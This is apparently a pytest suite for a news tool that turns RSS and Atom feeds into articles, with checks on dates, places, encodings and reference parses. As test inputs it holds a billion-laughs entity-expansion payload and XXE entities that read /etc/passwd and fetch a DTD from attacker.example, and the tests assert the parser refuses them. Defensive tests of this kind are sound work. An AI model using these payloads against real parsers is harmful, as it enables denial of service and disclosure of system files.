"""RSS 2.0 and Atom feeds: each item an article; entity tricks refused, never expanded."""

from __future__ import annotations

import datetime as dt
import json
import re
import time
from pathlib import Path

import pytest

from newsdiff.core.ingest import detect_format, read_bytes
from newsdiff.core.model import Article, Problem

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>Kabar Harian</title>
  <link>https://kabar.example/</link>
  <language>id</language>
  <item>
    <title>Rusia dan Ukraina sepakat bertukar tahanan</title>
    <link>https://kabar.example/a</link>
    <pubDate>Fri, 16 May 2025 23:30:00 +0700</pubDate>
    <description>Ringkasan singkat.</description>
    <content:encoded><![CDATA[<p>Istanbul (ANTARA) - Delegasi Rusia dan Ukraina sepakat
      menukar 1.000 tahanan pada Jumat (16/5).</p><p>Umerov menyebutnya pertukaran
      terbesar sejak perang dimulai.</p>]]></content:encoded>
  </item>
  <item>
    <title>Judul saja</title>
    <link>https://kabar.example/b</link>
  </item>
  <item>
    <title>Harga beras &amp; cabai naik</title>
    <link>https://kabar.example/c</link>
    <description>&lt;p&gt;Harga beras naik menjadi Rp 13.500 per kilogram.&lt;/p&gt;
      &lt;p&gt;Cabai juga naik.&lt;/p&gt;</description>
  </item>
</channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title>Kabar Wire</title>
  <id>urn:kabar</id>
  <updated>2024-11-04T10:00:00Z</updated>
  <entry>
    <title>Volcano erupts on Flores</title>
    <link href="https://wire.example/volcano"/>
    <id>urn:1</id>
    <published>2024-11-04T01:30:00+08:00</published>
    <author><name>Maya Lestari</name></author>
    <content type="html">&lt;p&gt;LARANTUKA, Indonesia (Kabar Wire) - Mount Lewotobi erupted
      shortly before midnight on Sunday, killing at least 10 people.&lt;/p&gt;</content>
  </entry>
</feed>
"""


def articles(data: str | bytes, name: str) -> tuple[list[Article], list[Problem]]:
    results = read_bytes(data.encode() if isinstance(data, str) else data, name)
    return (
        [r for r in results if isinstance(r, Article)],
        [r for r in results if isinstance(r, Problem)],
    )


def test_rss_items_become_articles() -> None:
    found, problems = articles(RSS, "feed.xml")
    assert [a.path for a in found] == ["feed.xml#1", "feed.xml#3"]
    first, third = found
    assert first.title == "Rusia dan Ukraina sepakat bertukar tahanan"
    assert first.url == "https://kabar.example/a"
    assert first.published == "2025-05-16"  # the item's own day, not UTC's 2025-05-16/17
    assert first.outlet == "Kabar Harian"
    assert first.source_format == "rss"
    assert first.language == "id"
    # content:encoded wins over the short description, paragraphs become lines.
    assert first.text.split("\n")[0].startswith("Istanbul (ANTARA) - Delegasi")
    assert first.text.count("\n") == 1
    assert first.place == "Istanbul"
    assert third.title == "Harga beras & cabai naik"
    assert third.text == "Harga beras naik menjadi Rp 13.500 per kilogram.\nCabai juga naik."
    (problem,) = problems
    assert problem.path == "feed.xml"
    assert problem.reason == "item 2 skipped: no text, only a title or link"


def test_atom_entries_become_articles() -> None:
    (article,), problems = articles(ATOM, "wire.atom")
    assert problems == []
    assert article.source_format == "atom"
    assert article.title == "Volcano erupts on Flores"
    assert article.url == "https://wire.example/volcano"
    assert article.published == "2024-11-04"
    assert article.byline == "Maya Lestari"
    assert article.outlet == "Kabar Wire"
    assert article.place == "Larantuka"


def test_feeds_are_recognised_by_their_root_without_an_extension() -> None:
    assert detect_format("download", RSS.encode()) == "feed"
    assert detect_format("download", ATOM.encode()) == "feed"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>t</title>
<item><title>boom</title><description>&lol9;</description></item>
</channel></rss>
"""


def test_billion_laughs_is_refused_not_expanded() -> None:
    started = time.perf_counter()
    found, (problem,) = articles(BILLION_LAUGHS, "laughs.xml")
    assert found == []
    assert "entities" in problem.reason and "refused" in problem.reason
    assert time.perf_counter() - started < 5  # a guard against expansion, not a benchmark


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    ],
)
def test_external_entities_are_refused(doctype: str) -> None:
    feed = (
        f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>t</title>'
        "<item><title>x</title><description>leak &xxe; here</description></item>"
        "</channel></rss>"
    )
    found, (problem,) = articles(feed, "xxe.rss")
    assert found == [] and "refused" in problem.reason


def test_entities_in_a_feed_expat_cannot_parse_are_still_refused() -> None:
    """Bad bytes make the strict parser give up early; the prolog is scanned anyway."""
    feed = BILLION_LAUGHS.encode("utf-8").replace(b"<title>t</title>", b"<title>\xff\xfe</title>")
    found, (problem,) = articles(feed, "laughs.xml")
    assert found == [] and "refused" in problem.reason


def test_an_old_rss_doctype_without_entities_is_fine() -> None:
    feed = RSS.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    )
    found, _ = articles(feed, "old.rss")
    assert len(found) == 2


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("<rss><channel><item><title>x</title><description>y", "malformed XML"),
        ('<rss version="2.0"><channel><title>Empty</title></channel></rss>', "no items"),
        ("<config><value>1</value></config>", "not an RSS or Atom feed"),
    ],
)
def test_unusable_feeds_are_problems(data: str, reason: str) -> None:
    found, (problem,) = articles(data, "bad.xml")
    assert found == [] and reason in problem.reason


# Real captures from rbren/rss-parser's test suite (../shared/data/feeds/rss-parser).


def expected_items(data: Path, stem: str) -> list[dict]:
    raw = (data / "feeds" / "rss-parser" / "output" / f"{stem}.json").read_bytes()
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        text = raw.decode("latin-1")  # encoding.json is stored in the feed's encoding
    return json.loads(text)["feed"]["items"]


@pytest.mark.parametrize(
    ("name", "language"),
    [
        ("guardian.rss", "en"),
        ("heise.atom", "und"),
        ("uolNoticias.rss", "und"),
        ("encoding.rss", "und"),
        ("feedburner.atom", "en"),
        ("content-encoded.rss", "en"),
    ],
)
def test_real_feeds_match_the_reference_parse(shared_data: Path, name: str, language: str) -> None:
    path = shared_data / "feeds" / "rss-parser" / "input" / name
    found, problems = articles(path.read_bytes(), name)
    expected = expected_items(shared_data, name.rsplit(".", 1)[0])
    snippets = ("contentSnippet", "content:encodedSnippet", "summary")
    with_text = [item for item in expected if any((item.get(k) or "").strip() for k in snippets)]
    assert len(found) == len(with_text)
    skipped = [p.reason.split(" skipped")[0].split(" ", 1)[1].split(", ") for p in problems]
    assert len(found) + sum(len(numbers) for numbers in skipped) == len(expected)
    by_link = {item.get("link"): item for item in with_text}
    for article in found:
        item = by_link[article.url]
        reference = " ".join((item.get("title") or "").split())
        # The reference misread the Latin-1 feed (U+FFFD); ours must fit around that.
        pattern = ".".join(re.escape(part) for part in reference.split("\ufffd"))
        assert re.fullmatch(pattern, article.title), (article.title, reference)
        if item.get("isoDate"):
            # The item's own day; the reference converted to UTC, so it may be a day off.
            ours = dt.date.fromisoformat(article.published)
            theirs = dt.date.fromisoformat(item["isoDate"][:10])
            assert abs((ours - theirs).days) <= 1
        assert article.text.strip() and "<p>" not in article.text
        assert article.language == language


def test_a_latin1_feed_without_an_xml_declaration_reads_its_accents(shared_data: Path) -> None:
    data = (shared_data / "feeds" / "rss-parser" / "input" / "uolNoticias.rss").read_bytes()
    found, _ = articles(data, "uol.rss")
    assert found[0].title.startswith(
        "Ibope: Bolsonaro perde de Haddad, Ciro e Alckmin em simulações"
    )
    assert "\ufffd" not in "".join(a.text + a.title for a in found)


def test_an_iso_8859_1_feed_reads_its_accents(shared_data: Path) -> None:
    data = (shared_data / "feeds" / "rss-parser" / "input" / "encoding.rss").read_bytes()
    found, _ = articles(data, "jn.rss")
    assert found[0].title == "Mãe de utente é a nova presidente da Raríssimas"
    assert found[0].outlet == "Jornal de Notícias - Últimas Notícias"
